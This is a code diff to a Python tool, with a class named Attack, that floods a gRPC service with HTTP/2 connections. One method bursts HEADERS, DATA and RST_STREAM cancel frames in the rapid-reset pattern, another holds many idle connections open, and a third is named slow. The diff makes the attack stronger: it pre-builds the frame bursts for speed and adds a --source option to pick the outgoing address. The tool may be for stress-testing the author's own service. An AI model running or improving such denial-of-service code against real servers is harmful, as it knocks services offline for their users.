@@ -53,7 +53,7 @@ def about(user):
 
 
 def connect(options, window=None):
-    connection = socket.create_connection(options.address, timeout=10)
+    connection = socket.create_connection(options.address, timeout=10, source_address=options.source)
     settings = struct.pack(">HI", 4, window) if window is not None else b""
     connection.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
     return connection
@@ -100,7 +100,7 @@ class Attack:
     def idle(self):
         for i in range(self.options.connections):
             try:
-                connection = socket.create_connection(self.options.address, timeout=10)
+                connection = socket.create_connection(self.options.address, timeout=10, source_address=self.options.source)
                 if i % 2:
                     connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
                 self.open.append(connection)
@@ -114,18 +114,19 @@ class Attack:
         block = headers("/idiolect.v1.DialogueService/GenerateReply", self.options.key)
         body = about(self.options.user)
 
+        # Made beforehand, since making it takes longer than sending it.
+        bursts = [b"".join(frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, body) +
+                           frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)) for stream in range(first, first + 100, 2))
+                  for first in range(1, 100_000, 100)]
+
         def one():
             connection = connect(self.options)
-            stream = 1
-            while self.going_on() and stream < 1 << 30:
-                burst = []
-                for _ in range(50):
-                    burst += [frame(HEADERS, END_HEADERS, stream, block), frame(DATA, END_STREAM, stream, body),
-                              frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))]
-                    stream += 2
-                connection.sendall(b"".join(burst))
+            for burst in bursts:
+                connection.sendall(burst)
                 self.count += 50
                 drain(connection)
+                if not self.going_on():
+                    return
         self.again_and_again(one)
 
     def slow(self):
@@ -165,6 +166,7 @@ def main():
     parser.add_argument("address", type=lambda text: (text.rsplit(":", 1)[0], int(text.rsplit(":", 1)[1])))
     parser.add_argument("--seconds", type=float, default=20)
     parser.add_argument("--connections", type=int, default=8)
+    parser.add_argument("--source", type=lambda text: (text, 0), help="address to connect from")
     parser.add_argument("--key", default="")
     parser.add_argument("--user", default="bench-0")
     options = parser.parse_args()
